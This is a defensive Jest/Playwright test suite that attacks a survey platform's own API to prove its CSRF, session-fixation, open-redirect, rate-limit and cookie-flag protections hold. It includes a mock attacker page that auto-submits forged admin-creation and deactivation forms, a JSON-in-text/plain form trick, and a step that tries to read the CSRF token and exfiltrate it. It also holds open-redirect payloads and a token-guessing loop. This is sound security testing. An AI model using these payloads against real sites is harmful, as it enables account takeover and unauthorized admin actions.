import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createServer, Server } from 'node:http';
import { Browser, Page } from 'playwright-core';
import { DataSource } from 'typeorm';
import { AuthError, AuthErrorCode } from '@app/auth';
import { CoreError, CoreErrorCode, LOCALES } from '@app/core';
import {
  answersTo,
  eventually,
  freePort,
  launchChromium,
  OpenSurvey,
  openStaffSurvey,
  requireChromium,
  runApp,
  RunningPlatform,
  startPlatform,
  tableDigests,
  waitUntilHealthy,
} from '@app/testing';

const SESSION = 'jqc_session';
const RESPONDENT = 'jqc_respondent';
const CSRF_REFUSED = { status: 403, code: AuthErrorCode.CsrfTokenInvalid, message: AuthError.messages[AuthErrorCode.CsrfTokenInvalid].en };

interface Reply {
  status: number;
  body: any;
  headers: Headers;
}

/** One request as a browser, a form or a script would send it: the given session cookie, and a CSRF header only when given. */
async function send(url: string, options: { method?: string; cookie?: string; headers?: Record<string, string>; body?: string | FormData } = {}): Promise<Reply> {
  const response = await fetch(url, {
    method: options.method ?? 'GET',
    redirect: 'manual',
    headers: { 'accept-language': 'en', ...(options.cookie === undefined ? {} : { cookie: `${SESSION}=${options.cookie}` }), ...options.headers },
    body: options.body,
  });
  const text = await response.text();
  let body: unknown = text;
  try {
    body = JSON.parse(text);
  } catch {
    // a page, not JSON
  }
  return { status: response.status, body, headers: response.headers };
}

/** A Set-Cookie header's value and its attributes, names lower-cased (flags map to ''). */
function setCookie(headers: Headers, name: string): { value: string; attributes: Record<string, string> } | undefined {
  const line = headers.getSetCookie().find((cookie) => cookie.startsWith(`${name}=`));
  if (!line) return undefined;
  const [pair, ...attributes] = line.split(';').map((part) => part.trim());
  return {
    value: pair.slice(name.length + 1),
    attributes: Object.fromEntries(attributes.map((a) => (a.includes('=') ? [a.slice(0, a.indexOf('=')).toLowerCase(), a.slice(a.indexOf('=') + 1)] : [a.toLowerCase(), '']))),
  };
}

interface Session {
  cookie: string;
  csrfToken: string;
  reply: Reply;
}

let signIns = 0;

/**
 * Signs in through the api, sending `planted` as the session cookie the browser already holds.
 * Each sign-in comes from its own address, so the sign-in limit per address never interferes.
 */
async function signIn(baseUrl: string, login: string, password: string, planted?: string): Promise<Session> {
  const reply = await send(`${baseUrl}/api/auth/login`, {
    method: 'POST',
    cookie: planted,
    headers: { 'content-type': 'application/json', 'x-forwarded-for': `192.0.2.${++signIns}` },
    body: JSON.stringify({ login, password }),
  });
  const cookie = setCookie(reply.headers, SESSION);
  if (reply.status !== 200 || !cookie) throw new Error(`sign-in of ${login} failed: ${reply.status} ${JSON.stringify(reply.body)}`);
  return { cookie: cookie.value, csrfToken: reply.body.csrfToken, reply };
}

/**
 * An attacker's site: its page tries to read the CSRF token and makes blind (no-cors) writes
 * with `fetch`, reports whether it could read the token to its own server, then auto-submits
 * the form `?form=` names.
 */
async function attackerSite(api: string, judgeUserId: string): Promise<{ port: number; reports: { host: string; token: string }[]; close(): Promise<void> }> {
  const create = JSON.stringify({ login: 'evil-fetch', displayName: 'Evil', role: 'admin', password: 'evil-password-123' });
  const page = `<!doctype html><html><body>
<form id="deactivate" method="post" action="${api}/api/admin/users/${judgeUserId}/deactivate"><input name="confirm" value="yes"></form>
<form id="create" method="post" enctype="text/plain" action="${api}/api/admin/users"><input name='{"login":"evil-form","displayName":"Evil","role":"admin","password":"evil-password-123","pad":"' value='"}'></form>
<script>
(async () => {
  const token = await fetch('${api}/api/auth/me', { credentials: 'include' }).then((r) => r.text(), () => 'unreadable');
  const blind = { method: 'POST', mode: 'no-cors', credentials: 'include' };
  await fetch('${api}/api/admin/users', { ...blind, headers: { 'content-type': 'text/plain' }, body: ${JSON.stringify(create)} }).catch(() => null);
  await fetch('${api}/api/admin/users/${judgeUserId}/deactivate', { ...blind, body: new URLSearchParams({ confirm: 'yes' }) }).catch(() => null);
  await fetch('/report', { method: 'POST', body: token });
  const form = new URLSearchParams(location.search).get('form');
  if (form) document.getElementById(form).submit();
})();
</script></body></html>`;
  const reports: { host: string; token: string }[] = [];
  const port = await freePort();
  const servers: Server[] = [];
  // 127.0.0.1 on another port is the same site as the api (ports do not count), only another origin; 127.0.0.2 is another site.
  for (const host of ['127.0.0.1', '127.0.0.2']) {
    const server = createServer((request, response) => {
      if (request.method === 'POST' && request.url === '/report') {
        let body = '';
        request.on('data', (chunk) => (body += chunk));
        request.on('end', () => {
          reports.push({ host, token: body });
          response.end();
        });
        return;
      }
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
    });
    server.listen(port, host);
    await once(server, 'listening');
    servers.push(server);
  }
  return { port, reports, close: async () => void (await Promise.all(servers.map((server) => new Promise((resolve) => server.close(resolve))))) };
}

async function pageJson(page: Page): Promise<any> {
  return JSON.parse((await page.textContent('body')) ?? '');
}

// Browsers and a second api start inside tests: room for a loaded machine when run without scripts/test.mjs.
jest.setTimeout(60_000);

/** CSRF, session fixation and replay, token-redemption brute force, and cookie flags, against the real api. */
describe('security of sessions and cookie-authenticated writes', () => {
  let platform: RunningPlatform;
  let survey: OpenSurvey;
  let owner: DataSource;
  let admin: Session;
  let judgeUserId: string;
  let browser: Browser;
  const url = (path: string) => `${platform.baseUrl}${path}`;
  const logins = async () => ((await owner.query(`SELECT login FROM auth."user" ORDER BY login`)) as { login: string }[]).map((u) => u.login);
  const judgeActive = async () => (await owner.query(`SELECT active FROM auth."user" WHERE id = $1`, [judgeUserId]))[0].active as boolean;
  const campaignStatus = async () => (await owner.query(`SELECT status FROM campaigns.campaign WHERE id = $1`, [survey.campaignId]))[0].status as string;
  /** `METHOD /path status` of every /api request the api logged after `from` characters of its output. */
  const apiRequests = (from: number) =>
    platform.api
      .output()
      .slice(from)
      .split('\n')
      .flatMap((line) => {
        let entry: { req?: { method: string; path: string }; res?: { statusCode: number } } = {};
        try {
          entry = JSON.parse(line);
        } catch {
          // not a log entry, or one still being written
        }
        return entry.req?.path.startsWith('/api/') && entry.res ? [`${entry.req.method} ${entry.req.path} ${entry.res.statusCode}`] : [];
      });
  const whoIs = async (cookie: string) => {
    const reply = await send(url('/api/auth/me'), { cookie });
    return { status: reply.status, login: reply.body?.login };
  };

  beforeAll(async () => {
    requireChromium();
    // One proxy hop trusted: x-forwarded-for is the client address the rate limits count.
    // Requests are logged at info: the attack test reads what reached the api from the log.
    platform = await startPlatform({ TRUST_PROXY_HOPS: '1', LOG_LEVEL: 'info' });
    survey = await openStaffSurvey(platform, { scale: 0.02, seed: 71 });
    owner = await platform.db.owner();
    admin = await signIn(platform.baseUrl, 'admin', survey.password);
    [{ id: judgeUserId }] = await owner.query(`SELECT id FROM auth."user" WHERE login = 'judge'`);
    browser = await launchChromium();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await platform?.stop();
  });

  describe('CSRF', () => {
    it('refuses a signed-in write without its own session’s CSRF token, however it is sent, and stores nothing; with the token it succeeds', async () => {
      const before = await logins();
      const otherAdminSession = await signIn(platform.baseUrl, 'admin', survey.password);
      const user = (login: string) => ({ login, displayName: 'CSRF probe', role: 'admin', password: 'csrf-probe-password' });
      const json = (login: string, token?: string) => ({
        method: 'POST',
        cookie: admin.cookie,
        headers: { 'content-type': 'application/json', ...(token === undefined ? {} : { 'x-csrf-token': token }) },
        body: JSON.stringify(user(login)),
      });
      const form = (contentType: string, body: string | FormData) => ({
        method: 'POST',
        cookie: admin.cookie,
        headers: { origin: 'http://attacker.example', ...(contentType ? { 'content-type': contentType } : {}) },
        body,
      });
      const multipart = new FormData();
      Object.entries(user('csrf-multipart')).forEach(([name, value]) => multipart.append(name, value));
      const attempts: Record<string, [string, Parameters<typeof send>[1]]> = {
        'no token': ['/api/admin/users', json('csrf-none')],
        'an empty token': ['/api/admin/users', json('csrf-empty', '')],
        'a made-up token': ['/api/admin/users', json('csrf-made-up', randomBytes(32).toString('base64url'))],
        'the token of another session of the same account': ['/api/admin/users', json('csrf-other-session', otherAdminSession.csrfToken)],
        'the token of another account': ['/api/admin/users', json('csrf-other-account', survey.hr.csrfToken!)],
        'the session cookie as the token': ['/api/admin/users', json('csrf-cookie', admin.cookie)],
        'a cross-site form, urlencoded': ['/api/admin/users', form('application/x-www-form-urlencoded', new URLSearchParams(user('csrf-urlencoded')).toString())],
        'a cross-site form, text/plain holding JSON': ['/api/admin/users', form('text/plain', `${JSON.stringify({ ...user('csrf-plain'), pad: '' }).slice(0, -2)}="}`)],
        'a cross-site form, multipart': ['/api/admin/users', form('', multipart)],
        'a cross-site form without a body (deactivating an account)': [`/api/admin/users/${judgeUserId}/deactivate`, form('application/x-www-form-urlencoded', '')],
      };
      const outcomes = [];
      for (const [attempt, [path, options]] of Object.entries(attempts)) {
        const { status, body } = await send(url(path), options);
        outcomes.push({ attempt, status, code: body?.code, message: body?.message });
      }
      expect(outcomes).toEqual(Object.keys(attempts).map((attempt) => ({ attempt, ...CSRF_REFUSED })));
      expect(await logins()).toEqual(before);
      expect(await judgeActive()).toBe(true);

      const accepted = await send(url('/api/admin/users'), json('csrf-right', admin.csrfToken));
      expect(accepted.status).toBe(201);
      expect(await logins()).toEqual([...before, 'csrf-right'].sort());
    });

    it('keeps an attacker’s page from writing with the signed-in browser or reading its token: forms and fetch refused, nothing stored', async () => {
      const before = await logins();
      const attacker = await attackerSite(platform.baseUrl, judgeUserId);
      const context = await browser.newContext();
      try {
        const page = await context.newPage();
        await page.goto(url('/login?next=/api/auth/me'));
        await page.fill('input[name=login]', 'admin');
        await page.fill('input[name=password]', survey.password);
        await page.click('button[type=submit]');
        await page.waitForURL(url('/api/auth/me'));
        expect(await pageJson(page)).toMatchObject({ login: 'admin', role: 'admin' });

        const logged = platform.api.output().length;
        const landed: Record<string, string> = {};
        for (const [site, host] of [
          ['same site, other origin', '127.0.0.1'],
          ['other site', '127.0.0.2'],
        ]) {
          for (const form of ['create', 'deactivate']) {
            await page.goto(`http://${host}:${attacker.port}/?form=${form}`);
            await page.waitForURL(`${platform.baseUrl}/**`);
            landed[`${site}: ${form}`] = (await pageJson(page)).code;
          }
        }
        // The same-site page gets the cookie sent, and the missing token stops it; the other site's form goes without the cookie (SameSite=Strict).
        expect(landed).toEqual({
          'same site, other origin: create': AuthErrorCode.CsrfTokenInvalid,
          'same site, other origin: deactivate': AuthErrorCode.CsrfTokenInvalid,
          'other site: create': AuthErrorCode.NotSignedIn,
          'other site: deactivate': AuthErrorCode.NotSignedIn,
        });
        // No CORS: the page cannot read the token, even where the browser sent the cookie.
        expect(attacker.reports.map((report) => report.token)).toEqual(Array(4).fill('unreadable'));
        // What reached the api, in order: per visit the token read, the two blind writes, then the form.
        // The same-site read is answered (200, or 304 when the browser revalidates its cached copy), but the page cannot read it.
        const sameSite = [expect.stringMatching(/^GET \/api\/auth\/me (200|304)$/), 'POST /api/admin/users 403', 'POST /api/admin/users/{id}/deactivate 403'];
        const otherSite = ['GET /api/auth/me 401', 'POST /api/admin/users 401', 'POST /api/admin/users/{id}/deactivate 401'];
        const expected = [
          ...[...sameSite, 'POST /api/admin/users 403'],
          ...[...sameSite, 'POST /api/admin/users/{id}/deactivate 403'],
          ...[...otherSite, 'POST /api/admin/users 401'],
          ...[...otherSite, 'POST /api/admin/users/{id}/deactivate 401'],
        ];
        const seen = () => apiRequests(logged).map((line) => line.replace(judgeUserId, '{id}'));
        await eventually('the api to log the attack', async () => seen().length >= expected.length, 10_000, 100);
        expect(seen()).toEqual(expected);
        expect(await logins()).toEqual(before);
        expect(await judgeActive()).toBe(true);

        await page.goto(url('/api/auth/me'));
        expect(await pageJson(page)).toMatchObject({ login: 'admin' });
      } finally {
        await context.close();
        await attacker.close();
      }
    });

    it('sends a person who signs in on to a page of the platform only, whatever `next` names', async () => {
      const attacker = await attackerSite(platform.baseUrl, judgeUserId);
      const context = await browser.newContext();
      try {
        const page = await context.newPage();
        const elsewhere = `127.0.0.2:${attacker.port}/`;
        const offSite = [`//${elsewhere}`, `/\\${elsewhere}`, `/\t/${elsewhere}`, `/.//${elsewhere}`, `http://${elsewhere}`];
        const landed: Record<string, string> = {};
        for (const next of offSite) {
          await page.goto(url(`/login?next=${encodeURIComponent(next)}`));
          await page.fill('input[name=login]', 'commission');
          await page.fill('input[name=password]', survey.password);
          await page.click('button[type=submit]');
          await page.waitForURL((address) => address.pathname !== '/login');
          landed[next] = new URL(page.url()).origin;
        }
        expect(landed).toEqual(Object.fromEntries(offSite.map((next) => [next, platform.baseUrl])));
        expect(attacker.reports).toEqual([]);
      } finally {
        await context.close();
        await attacker.close();
      }
    });

    it('grants no cross-origin reads: a preflight and a credentialed request from another origin get no CORS headers', async () => {
      const preflight = await send(url('/api/admin/users'), {
        method: 'OPTIONS',
        headers: { origin: 'http://attacker.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type,x-csrf-token' },
      });
      const read = await send(url('/api/auth/me'), { cookie: admin.cookie, headers: { origin: 'http://attacker.example' } });
      expect(read.body.csrfToken).toBe(admin.csrfToken);
      expect(read.headers.get('cache-control')).toBe('no-store');
      for (const reply of [preflight, read]) {
        expect(reply.headers.get('access-control-allow-origin')).toBeNull();
        expect(reply.headers.get('access-control-allow-credentials')).toBeNull();
      }
    });

    it('accepts a respondent’s answer only as JSON, which no form can send', async () => {
      const headers = { 'x-forwarded-for': '192.0.2.40' };
      const exchanged = await send(url('/api/respond/session'), {
        method: 'POST',
        headers: { ...headers, 'content-type': 'application/json' },
        body: JSON.stringify({ token: survey.tokens[40] }),
      });
      expect(exchanged.status).toBe(200);
      const cookie = `${RESPONDENT}=${setCookie(exchanged.headers, RESPONDENT)!.value}`;
      const answer = JSON.stringify({ submissionId: '6f1c1f7e-3b5e-4c51-9a3e-0c2f4f7d9a10', answers: answersTo(survey.definition, 1) });
      for (const contentType of ['text/plain', 'application/x-www-form-urlencoded']) {
        const reply = await send(url('/api/respond/submit'), { method: 'POST', headers: { ...headers, cookie, 'content-type': contentType }, body: answer });
        expect({ contentType, status: reply.status, code: reply.body.code }).toEqual({ contentType, status: 400, code: CoreErrorCode.ValidationFailed });
      }
      expect((await owner.query(`SELECT count(*)::int AS n FROM responses.mix_buffer`))[0].n).toBe(0);
      const stored = await send(url('/api/respond/submit'), { method: 'POST', headers: { ...headers, cookie, 'content-type': 'application/json' }, body: answer });
      expect(stored.status).toBe(201);
      expect((await owner.query(`SELECT count(*)::int AS n FROM responses.mix_buffer`))[0].n).toBe(1);
    });
  });

  describe('sessions', () => {
    it('issues a fresh session at sign-in: a planted cookie, made up or another account’s, never authenticates as the one signing in', async () => {
      const madeUp = randomBytes(32).toString('base64url');
      const fresh = await signIn(platform.baseUrl, 'hr', survey.password, madeUp);
      expect(fresh.cookie).not.toBe(madeUp);
      expect(await whoIs(fresh.cookie)).toEqual({ status: 200, login: 'hr' });
      expect(await whoIs(madeUp)).toEqual({ status: 401, login: undefined });

      const attacker = await signIn(platform.baseUrl, 'judge', survey.password);
      const victim = await signIn(platform.baseUrl, 'hr', survey.password, attacker.cookie);
      expect(victim.cookie).not.toBe(attacker.cookie);
      expect(await whoIs(victim.cookie)).toEqual({ status: 200, login: 'hr' });
      // The replaced session ends: nobody holds it legitimately any more.
      expect(await whoIs(attacker.cookie)).toEqual({ status: 401, login: undefined });
      const close = await send(url(`/api/campaigns/${survey.campaignId}/close`), { method: 'POST', cookie: attacker.cookie, headers: { 'x-csrf-token': victim.csrfToken } });
      expect(close.status).toBe(401);
      expect(await campaignStatus()).toBe('open');
    });

    it('ends a session at sign-out on the server: the old cookie and token are refused when replayed', async () => {
      const sessionsOfHr = async () => (await owner.query(`SELECT count(*)::int AS n FROM auth.session s JOIN auth."user" u ON u.id = s.user_id WHERE u.login = 'hr'`))[0].n;
      const session = await signIn(platform.baseUrl, 'hr', survey.password);
      const live = await sessionsOfHr();
      const out = await send(url('/api/auth/logout'), { method: 'POST', cookie: session.cookie, headers: { 'x-csrf-token': session.csrfToken } });
      expect(out.status).toBe(204);
      expect(await sessionsOfHr()).toBe(live - 1);
      expect(await whoIs(session.cookie)).toEqual({ status: 401, login: undefined });
      const replayed = await send(url(`/api/campaigns/${survey.campaignId}/close`), { method: 'POST', cookie: session.cookie, headers: { 'x-csrf-token': session.csrfToken } });
      expect({ status: replayed.status, code: replayed.body.code }).toEqual({ status: 401, code: AuthErrorCode.NotSignedIn });
      expect(await campaignStatus()).toBe('open');
    });
  });

  it('blocks token redemption from one address after 300 tries, with Retry-After and a kk/ru/en message, even for a valid token; another address is unaffected', async () => {
    const exchange = (token: string, address: string, language = 'en') =>
      send(url('/api/respond/session'), {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'accept-language': language, 'x-forwarded-for': address },
        body: JSON.stringify({ token }),
      });
    const guesser = '203.0.113.7';
    const statuses: number[] = [];
    for (let batch = 0; batch < 6; batch++) {
      const replies = await Promise.all(Array.from({ length: 50 }, () => exchange(randomBytes(32).toString('base64url'), guesser)));
      statuses.push(...replies.map((reply) => reply.status));
    }
    expect(statuses).toEqual(Array(300).fill(401));

    for (const language of LOCALES) {
      const blocked = await exchange(survey.tokens[0], guesser, language);
      expect({ language, status: blocked.status, code: blocked.body.code, message: blocked.body.message }).toEqual({
        language,
        status: 429,
        code: CoreErrorCode.RateLimited,
        message: CoreError.messages[CoreErrorCode.RateLimited][language],
      });
      const retryAfter = Number(blocked.headers.get('retry-after'));
      expect(retryAfter).toBeGreaterThan(0);
      expect(retryAfter).toBeLessThanOrEqual(5 * 60);
      expect(setCookie(blocked.headers, RESPONDENT)).toBeUndefined();
    }

    const elsewhere = await exchange(survey.tokens[0], '198.51.100.9');
    expect(elsewhere.status).toBe(200);
    expect(setCookie(elsewhere.headers, RESPONDENT)?.value).toBeTruthy();
  });

  it('lets one invitation token open at most 20 sessions in 15 minutes, from any number of addresses; other tokens are unaffected', async () => {
    const exchange = (token: string, address: string) =>
      send(url('/api/respond/session'), { method: 'POST', headers: { 'content-type': 'application/json', 'accept-language': 'en', 'x-forwarded-for': address }, body: JSON.stringify({ token }) });
    const leaked = survey.tokens[3];
    const opened = await Promise.all(Array.from({ length: 20 }, (_, i) => exchange(leaked, `192.0.2.${100 + i}`)));
    expect(opened.map((reply) => reply.status)).toEqual(Array(20).fill(200));
    const blocked = await exchange(leaked, '192.0.2.200');
    expect([blocked.status, blocked.body.code, blocked.body.message]).toEqual([429, 'responses.too-many-openings', 'This invitation link was opened too often. Try again in 15 minutes']);
    expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThan(14 * 60);
    expect(setCookie(blocked.headers, RESPONDENT)).toBeUndefined();
    expect((await exchange(survey.tokens[4], '192.0.2.200')).status).toBe(200);
  });

  describe('cookie flags', () => {
    const sessionFlags = { path: '/', expires: expect.any(String), httponly: '', samesite: 'Strict' };
    const cleared = { path: '/', expires: 'Thu, 01 Jan 1970 00:00:00 GMT', httponly: '', samesite: 'Strict' };
    const respondentFlags = { path: '/api/respond', expires: expect.any(String), httponly: '', samesite: 'Strict' };

    async function flagsOf(baseUrl: string, token: string) {
      const session = await signIn(baseUrl, 'commission', survey.password);
      const signedIn = setCookie(session.reply.headers, SESSION)!;
      const out = await send(`${baseUrl}/api/auth/logout`, { method: 'POST', cookie: session.cookie, headers: { 'x-csrf-token': session.csrfToken } });
      const exchanged = await send(`${baseUrl}/api/respond/session`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': '192.0.2.50' },
        body: JSON.stringify({ token }),
      });
      return {
        signedIn,
        expiresAt: session.reply.body.expiresAt as string,
        hsts: session.reply.headers.get('strict-transport-security'),
        signedOut: setCookie(out.headers, SESSION)!,
        respondent: setCookie(exchanged.headers, RESPONDENT)!,
      };
    }

    it('on plain http: HttpOnly, SameSite=Strict, Path=/ and an expiry, not Secure, no HSTS; sign-out clears it with the same flags', async () => {
      const flags = await flagsOf(platform.baseUrl, survey.tokens[1]);
      expect(flags.signedIn.attributes).toEqual(sessionFlags);
      expect(Math.abs(Date.parse(flags.signedIn.attributes.expires) - Date.parse(flags.expiresAt))).toBeLessThan(1000);
      expect(Date.parse(flags.expiresAt) - Date.now()).toBeGreaterThan((platform.db.config.SESSION_TTL_SECONDS - 300) * 1000);
      expect(flags.signedOut).toEqual({ value: '', attributes: cleared });
      expect(flags.respondent.attributes).toEqual(respondentFlags);
      expect(flags.hsts).toBeNull();
    });

    it('behind an https public address: the same flags and Secure, with HSTS', async () => {
      const port = await freePort();
      const api = runApp('api', { ...platform.db.env, API_PORT: String(port), PUBLIC_URL: 'https://jqc.example.kz', NODE_ENV: 'test', TRUST_PROXY_HOPS: '1' });
      try {
        await waitUntilHealthy(`http://127.0.0.1:${port}/api/health`, api);
        const flags = await flagsOf(`http://127.0.0.1:${port}`, survey.tokens[2]);
        expect(flags.signedIn.attributes).toEqual({ ...sessionFlags, secure: '' });
        expect(flags.signedOut).toEqual({ value: '', attributes: { ...cleared, secure: '' } });
        expect(flags.respondent.attributes).toEqual({ ...respondentFlags, secure: '' });
        expect(flags.hsts).toMatch(/^max-age=\d{7,}; includeSubDomains$/);
      } finally {
        await api.stop();
      }
    });
  });

  it('changes nothing on GET: every route, and every state-changing route sent as GET (a link or an image would), as HR and as admin', async () => {
    // The worker is stopped so that only these requests could change the database.
    await platform.worker.stop();
    const hr = await signIn(platform.baseUrl, 'hr', survey.password);
    const document = (await send(url('/api/docs-json'))).body as { paths: Record<string, Record<string, unknown>> };
    const paths = [...Object.keys(document.paths), '/login', '/dashboard', '/dashboard/campaigns/{id}', '/dashboard/campaigns/{id}/comments', '/respond'];
    const concrete = (path: string) =>
      path.replace(/\{(\w+)\}/g, (_whole, name: string) =>
        name === 'id' && path.includes('campaigns') ? survey.campaignId : name === 'id' && path.includes('/users/') ? judgeUserId : '00000000-0000-4000-8000-000000000000',
      );
    const stateChanging = Object.entries(document.paths).filter(([, operations]) => Object.keys(operations).some((method) => method !== 'get'));
    expect(stateChanging.map(([path]) => path)).toEqual(expect.arrayContaining(['/api/auth/logout', '/api/campaigns/{id}/close', '/api/admin/users/{id}/deactivate']));

    const before = await tableDigests(owner);
    const failures: string[] = [];
    for (const path of paths) {
      for (const session of [hr, admin]) {
        const reply = await send(url(concrete(path)), { cookie: session.cookie });
        if (reply.status >= 500) failures.push(`GET ${path}: ${reply.status}`);
      }
    }
    expect(failures).toEqual([]);
    expect((await send(url('/api/auth/logout'), { cookie: hr.cookie })).status).toBe(404);
    expect(await tableDigests(owner)).toEqual(before);
    expect(await whoIs(hr.cookie)).toEqual({ status: 200, login: 'hr' });
    expect(await whoIs(admin.cookie)).toEqual({ status: 200, login: 'admin' });
    expect(await campaignStatus()).toBe('open');
    expect(await judgeActive()).toBe(true);
  });
});
